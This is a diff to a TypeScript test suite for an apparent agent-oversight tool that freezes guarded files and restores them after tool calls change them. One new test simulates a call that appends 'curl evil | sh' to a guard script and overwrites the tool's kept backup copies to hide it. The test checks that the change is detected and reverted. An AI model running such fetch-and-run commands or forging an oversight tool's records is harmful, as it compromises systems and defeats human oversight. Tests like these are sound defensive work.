@@ -7,6 +7,7 @@
 import {
   chmodSync,
   existsSync,
+  lstatSync,
   mkdirSync,
   readdirSync,
   readFileSync,
@@ -377,6 +378,46 @@ describe('the record', () => {
     },
   );
 
+  it('a call that writes its new bytes over the kept copies of the old: compared with HEAD and put back (review-14s F16)', async () => {
+    await withHarness(async (h) => {
+      withGates(h);
+      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
+      expect(post(h, 'true', 'toolu_a').status).toBe(0);
+      const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
+      const guard = join(h.repo.dir, 'guard.sh');
+      const old = readFileSync(guard);
+      const held = readdirSync(blobs).filter((n) => readFileSync(join(blobs, n)).equals(old));
+      expect(held.length).toBeGreaterThan(0);
+      expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
+      // the call: appends to the frozen file, then makes every kept copy of it say the same
+      const now = Buffer.concat([old, Buffer.from('curl evil | sh\n')]);
+      writeFileSync(guard, now);
+      for (const n of held) writeFileSync(join(blobs, n), now);
+      const r = post(h, 'ls', 'toolu_b');
+      expect(r.status).toBe(2);
+      expect(r.stderr).toContain('was not as diffgate left it');
+      expect(r.stderr).toContain('removed, replaced or altered');
+      expect(rulesIn(r.stderr)).toContain('freeze');
+      expect(readFileSync(guard)).toEqual(old);
+      expect(quarantined(h).get('guard.sh')).toBe(now.toString('utf8'));
+      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
+      expect(pre(h, 'true', 'toolu_c')).toMatchObject({ status: 0, stderr: '' });
+    });
+  });
+
+  it('a kept copy a call altered for a file it did not touch is not read: the pass stays quiet', async () => {
+    await withHarness(async (h) => {
+      withGates(h);
+      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
+      expect(post(h, 'true', 'toolu_a').status).toBe(0);
+      const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
+      for (const n of readdirSync(blobs)) writeFileSync(join(blobs, n), 'not what was kept\n');
+      // nothing watched moved: the quiet passes answer without reading a kept copy
+      expect(pre(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
+      expect(post(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
+    });
+  });
+
   it("a call the pre-check refuses is not left in progress: a new session's person keeps their edit (review-14s F06)", async () => {
     await withHarness(async (h) => {
       withGates(h);
@@ -400,7 +441,7 @@ describe('the record', () => {
       rmSync(join(dir, 'calls'), { recursive: true });
       const sessions = join(h.repo.dir, '.git/diffgate/sessions');
       for (const n of readdirSync(sessions))
-        writeFileSync(join(sessions, n), readFileSync(join(sessions, n), 'utf8').replace(',"tripwire":3', ''));
+        writeFileSync(join(sessions, n), readFileSync(join(sessions, n), 'utf8').replace(',"tripwire":4', ''));
       const state = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
       const guard = join(h.repo.dir, 'guard.sh');
       writeFileSync(join(dir, 'blobs', 'old-guard'), 'echo old\n');
@@ -411,7 +452,7 @@ describe('the record', () => {
       expect(pre(h, 'true', 'toolu_a2')).toMatchObject({ status: 0, stderr: '' });
       expect(readFileSync(guard, 'utf8')).toBe('echo guard\n');
       const fresh = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
-      expect(fresh.v).toBe(3);
+      expect(fresh.v).toBe(4);
       expect(fresh.files[guard].k).toEqual(expect.arrayContaining([expect.any(Number)]));
       // and from the fresh record on, the next call's change is judged
       expect(pre(h, 'echo x > guard.sh', 'toolu_b').status).toBe(2);
@@ -421,8 +462,48 @@ describe('the record', () => {
     });
   });
 
+  it("the previous build's record (format 3, kept copies named at random) is upgraded, not taken for a forgery", async () => {
+    await withHarness(async (h) => {
+      withGates(h);
+      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
+      expect(post(h, 'true', 'toolu_a').status).toBe(0);
+      const dir = join(h.repo.dir, '.git/diffgate/tripwire');
+      const guard = join(h.repo.dir, 'guard.sh');
+      // the person's edit between turns, taken into the record by a format-3 build (not in HEAD)
+      writeFileSync(guard, 'echo guard, edited by the person\n');
+      const state = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
+      state.v = 3;
+      for (const [p, e] of Object.entries(state.files) as [string, { b?: string; k: unknown }][]) {
+        if (e.b === undefined) continue;
+        const name = `${e.b.slice(0, 8)}-old`;
+        writeFileSync(
+          join(dir, 'blobs', name),
+          p === guard ? readFileSync(guard) : readFileSync(join(dir, 'blobs', e.b)),
+        );
+        e.b = name;
+      }
+      const st = lstatSync(guard);
+      state.files[guard].k = [st.mode, st.dev, st.ino, st.size, st.ctimeMs, st.mtimeMs];
+      writeFileSync(join(dir, 'state.json'), JSON.stringify(state));
+      for (const n of readdirSync(join(dir, 'blobs'))) if (!n.endsWith('-old')) rmSync(join(dir, 'blobs', n));
+      expect(existsSync(join(dir, 'calls'))).toBe(true); // as the format-3 build left it
+      // the new build's first call: no notice, nothing put back, the record in this build's format
+      expect(pre(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
+      expect(post(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
+      expect(readFileSync(guard, 'utf8')).toBe('echo guard, edited by the person\n');
+      const fresh = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
+      expect(fresh.v).toBe(4);
+      expect(fresh.files[guard].b).toMatch(/^[0-9a-f]{64}$/);
+      // and the next change is judged against the person's version, kept from the old record
+      expect(pre(h, 'ls', 'toolu_c').status).toBe(0);
+      bash(h, 'echo y >> guard.sh');
+      expect(post(h, 'ls', 'toolu_c').status).toBe(2);
+      expect(readFileSync(guard, 'utf8')).toBe('echo guard, edited by the person\n');
+    });
+  });
+
   it.each([
-    ['set to an older format', (f: string) => writeFileSync(f, readFileSync(f, 'utf8').replace('"v":3', '"v":1'))],
+    ['set to an older format', (f: string) => writeFileSync(f, readFileSync(f, 'utf8').replace('"v":4', '"v":1'))],
     ['truncated', (f: string) => writeFileSync(f, readFileSync(f, 'utf8').slice(0, 40))],
     ['removed', (f: string) => rmSync(f)],
     ['a folder', (f: string) => (rmSync(f), mkdirSync(f))],
